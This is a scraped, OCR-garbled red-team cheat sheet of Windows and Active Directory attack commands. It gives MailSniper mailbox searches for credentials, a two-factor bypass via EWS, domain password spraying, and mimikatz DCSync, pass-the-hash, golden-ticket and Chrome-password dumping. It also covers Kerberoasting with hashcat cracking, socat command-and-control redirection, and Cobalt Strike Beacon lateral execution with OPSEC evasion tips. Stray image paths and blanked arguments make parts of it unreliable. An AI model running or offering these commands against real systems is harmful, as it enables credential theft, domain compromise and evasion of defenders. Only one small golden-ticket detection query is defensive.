  • MsBuild.exeGets files which have been indexed by Windows desktop search. Searches the Windows index on the local computer or a remote file serving computer looking for file properties or free text searching over contents



Interacting w/ Windows API


Example – Lock Workstation and MessageBox

Add-Type -TypeDefinition @"
using System;
using System.Diagnostics;
using System.Runtime.InteropServices;

public static class User32
[DllImport("user32.dll", CharSet=CharSet.Auto)]
public static extern bool MessageBox(
IntPtr hWnd, /// Parent window handle
String text, /// Text message to display
String caption, /// Window caption
int options); /// MessageBox type[DllImport("user32.dll", CharSet=CharSet.Auto)]
public static extern bool LockWorkStation();




List static methods

[USER32] |get-member -static


MailSniper (OWA and Exchange Enumeration)


MailSniper is a penetration testing tool for searching through email ina Microsoft Exchange environment for specific terms (passwords, insider intel, network architecture information, etc.). It can be used as a non-administrative user to search their own email, or by an Exchange administrator to search the mailboxes of every user in a domain.

MailSniper also includes additional modules for password spraying, and gathering the Global Address List from OWA and EWS.

Bypassing Dual Factor Authentication on OWA –

  • It appears that Outlook portals that are being protected by two-factor authentication might not be covering all of the authentication protocols to Microsoft Exchange.
  • Leverages the Exchange Web Services (EWS) feature of OWA. Just have to check for the presence of\EWS\Exchange.asmx

Invoke-SelfSearch -Mailbox -ExchHostname -Remote

  • After the credentials have been entered MailSniper will attempt to connect to the EWS URL at and search the user’s inbox for key terms (by default “pass”, “creds”, and “credentials”).


Locate OWA instances via Autodiscover using only organization primary domain name





dig _autodiscover._tcp. SRV
; <<>> DiG 9.8.3-P1 <<>> SRV
;; global options: +cmd
;; Got answer:
;; ->>HEADER<<- opcode: QUERY, status: NOERROR, id: 45003
;; flags: qr rd ra; QUERY: 1, ANSWER: 1, AUTHORITY: 0, ADDITIONAL: 0


;; ANSWER SECTION: 1720 IN SRV 0 0 443

;; Query time: 2 msec
;; WHEN: Thu Dec 1 10:40:33 2016
;; MSG SIZE rcvd: 83


DomainPasswordSpray (Internal Windows DomainPassword Brute Forcing)


DomainPasswordSpray is a tool written in PowerShell to perform a password spray attack against users of a domain. By default it will automatically generate the userlist from the domain. BE VERY CAREFUL NOT TO LOCKOUT ACCOUNTS!


Quick Start Guide

Open a PowerShell terminal from the Windows command line with ‘powershell.exe -exec bypass’.

Type 'Import-Module Invoke-DomainPasswordSpray.ps1'.


The only option necessary to perform a password spray is either -Password for a single password or -PasswordList to attempt multiple sprays. When using the -PasswordList option Invoke-DomainPasswordSpray will attempt togather the account lockout observation window from the domain and limit sprays to one per observation window to avoid locking out accounts.


The following command will automatically generate a list of users from the current user’s domain and attempt to authenticate using each username and a password of Winter2016.

PowerShell Invoke-DomainPasswordSpray -Password Winter2016


The following command will use the userlist at users.txt and try to authenticate to the domain “domain-name” using each password in the passlist.txt file one at a time. It will automatically attempt to detect the domain’s lockout observation window and restrict sprays to one attempt during each window. The results of the spray will be output to a file called sprayed-creds.txt

PowerShell Invoke-DomainPasswordSpray -UserList users.txt -Domain domain-name -PasswordList passlist.txt -OutFile sprayed-creds.txt


Invoke-DomainPasswordSpray Options

UserList - Optional UserList parameter. This will be generated automatically if not specified.
Password - A single password that will be used to perform the password spray.
PasswordList - A list of passwords one per line to use for the password spray (Be very careful not to lockout accounts).
OutFile - A file to output the results to.
Domain - A domain to sprayagainst.


Misc Powershell Pasties

List Removeable Drives

Get-WmiObject Win32_LogicalDisk | Where-Object {($_.DriveType -eq 2) -and ($_.DeviceID -ne 'A:')} | %{"USB_PROCESS_DETECTED: " + $_.ProviderName + "`n"}

Random Execution Method

$visio = [activator]::CreateInstance([type]::GetTypeFromProgID("visio.application","system1"))
$docs = $visio.Documents.Add("")


Attack Methods for Gaining Domain Admin Rights in Active Directory

Dump Cleartext Credentials


Dump cached domain credentials


Format mscachev2 as $DCC2$10240#username#hash

cat 'mscachecreds.txt' | awk -F “:” {'print "$DCC2$10240#"$1"#"$2'}


Crack mscachev2 format with Hashcat (extremely slow)

./hashcat -m 2100 -a 0 mscachev2.dump ./wordlists/* -r rules/dive.rule


DCSYNC – Remote Hash Dumping from a Domain Controller

mimikatz lsadump::dcsync /user:domain\krbtgt


  • There is also a CS built-in function for this
  • Source:Pass the Hash

mimikatz sekurlsa::pth /user:localadmin /domain:. /ntlm:21306681c738c3ed2d615e29be1574a3 /run:powershell -w hidden


Golden Ticket Creation (File)

mimikatz kerberos::golden /user:newadmin / /sid:S-1-5-21-3683589091-3492174527-1688384936 /groups:501,502,513,512,520,518,519 /krbtgt: /ticket:newadmin.tkt


Golden Ticket Creation (Pass-The-Ticket) – Create the ticket for your current session

mimikatz kerberos::golden /user:newadmin / /sid:S-1-5-21-3683589091-3492174527-1688384936 /krbtgt: /ptt


To create a Golden ticket to own the parent domain, once achild domain controller is compromised you will need the following pieces:

/rc4: KRBTGT Hash
/sid:Child Domain SID
/domain:FQDN of Child Domain
/id:ID of Child Domain Controller


Dump Google Chrome passwords

shell copy "C:\users\kobrien\appdata\local\google\chrome\user data\default\Login Data" C:\users\public\libraries\ld.dat


mimikatz @dpapi::chrome /in:C:\users\public\libraries\ld.dat /unprotect


Detecting Golden Ticket use on a DC

<select>*[System[EventID='4768']]</select> <select>and</select> <select>*[EventData[Data[@Name='TargetUserName'] != 'ANONYMOUS LOGON']]</select> <select>and</select> <select>*[EventData[Data[@Name='ServiceName'] = 'krbtgt']]</select> <select>and</select> <select>*[EventData[Data[@Name='TicketEncryptionType'] = '0x17']]</select>



Add-Type -AssemblyName System.IdentityModel; New-Object System.IdentityModel.Tokens.KerberosRequestorSecurityToken -ArgumentList "MSSQLSvc/"


Use mimikatz to export SPN Tikets once requested (Generates one file per ticket unless base64 option is used)

mimkatz kerberos::list /exportInvoke-Mimikatz -Command 'standard::base64 "kerberos::list /export" exit'


Impacket method of extracting SPN tickets and output hashes in the correct format for John via Proxychains and Beacon (Preferred)

proxychains python ./ -request -dc-ip -outputfile


Cracking the hashes

./hashcat -m 13100 -a 0 spns.dump ./wordlists/* -r rules/dive.rule

./john --format=krb5tgs spns.dump --wordlist=


Domain Admin Privesc MethodsAttack Methods for Gaining Domain Admin Rights in Active Directory

  1. Passwords in SYSVOL & Group Policy Preferences

findstr /S cpassword %logonserver%\sysvol\*.xml
or use Get-GPPPasswords.ps1 from PowerSploit

  1. Exploit the MS14-068 Kerberos Vulnerability on a Domain Controller Missing the Patch
  2. Kerberos TGS Service Ticket Offline Cracking (Kerberoast)
  3. The Credential Theft Shuffle
  4. Gain access to AD Database file (ntds.dit)

* Backup locations (backup server storage, media, and/or network shares)
* Find the NTDS.dit file staged on member servers prior to promoting to Domain Controllers.
* With admin rights to virtualization host, a virtual DC can becloned and the associated data copied offline.


Command and Control

Simple TCP Port Redirection

socat TCP-LISTEN:80,fork TCP::80
socat TCP-LISTEN:443,fork TCP::443


UDP Port Redirection

socat udp4-recvfrom:53,reuseaddr,fork udp4-sendto:; echo -ne

Simple HTTP Redirect

Save as a file like the following as redirect.html and map to root “/” on your Team Server. Casual browsing to the root of your domain will then simply redirect.


Domain Fronting


Cobalt Strike

Gettin’ Down with Aggressor Script

portscan 21,22,23,25,80,443,445,1433,3389,8080,8443


Start Remote Beacon DLL via iwmi

powerpick iwmi -class Win32_Process -name create -ArgumentList "rundll32.exe c:\users\public\libraries\smb_beacon.dll.log0,StartW"


OPSEC Considerations for Beacon Commands – OPSEC Considerations For Beacon Commands

A good operator knows their tools and has an idea of how the tool is accomplishing its objectives on their behalf. This blog post surveys Beacons commands and provides backgroundon which commands inject into remote processes, which commands spawn jobs, and which commands rely on cmd.exe or powershell.exe.

These commands are built-into Beacon and rely on Win32 APIs to meet their objectives.



House-keeping Commands
The following commands are built into Beacon and exist to configure Beacon or perform house-keepingactions. Some of these commands (e.g., clear, downloads, help, mode, note) do not generate a task for Beacon to execute.

mode dns
mode dns-txt
mode dns6
mode http
socks stop


Post-Exploitation Jobs (Process Execution + Remote Process Injection)
Many Beacon post-exploitation features spawn a process and inject a capability into that process. Beacon does this for a number of reasons: (i) this protects the agent if the capability crashes, (ii) this scheme makes it seamless for an x86 Beacon to launch x64 post-exploitation tasks. The following commands run as post-exploitation jobs:



OPSEC Advice: Use the spawnto command to change theprocess Beacon will launch for its post-exploitation jobs. The default is rundll32.exe (you probably don’t want that). The ppid command will change the parent process these jobs are run under as well.

Process Execution
These commands spawn a new process:



OPSEC Advice: The ppid command will change the parent process of commands run by execute. The ppid command does not affect runas or spawnu.

Process Execution: Cmd.exe
The shell command depends on cmd.exe.

The pth and getsystem commands get honorable mention here. These commands rely on cmd.exe to pass a token to Beacon via a named pipe.

OPSEC Advice: the shell command uses the COMSPEC environment variable to find the preferred command-line interpreter on Windows. Use Aggressor Script’s &bsetenv function to point COMSPEC to a different cmd.exe location, if needed. Use the ppid command to change the parent process the command-line interpreter is run under. To pth without cmd.exe, execute the pth steps by hand.

Process Execution: PowerShell.exe
The following commands launch powershell.exe to perform some task on your behalf.



OPSEC Advice: Use the ppid command to change the parent process powershell.exe is run under. Be aware, there are alternatives to each of these commands that do not use powershell.exe:

spawnu has runu which runs an arbitrary command under another process.
spawnas has runas which runs an arbitrary command as another user.
powershell has powerpick,this command runs powershell scripts without powershell.exe.It’s also possible to laterally spread without the winrm and wmi commands.
Remote Process Injection

The post-exploitation job commands (previously mentioned) rely on process injection too. The other commands that inject into a remote process are:



Service Creation

The following internal Beacon commands create a service (either on the current host or a remote target) to run a command. These commands use Win32 APIs to create and manipulate services.



Powershell Function Wrapper


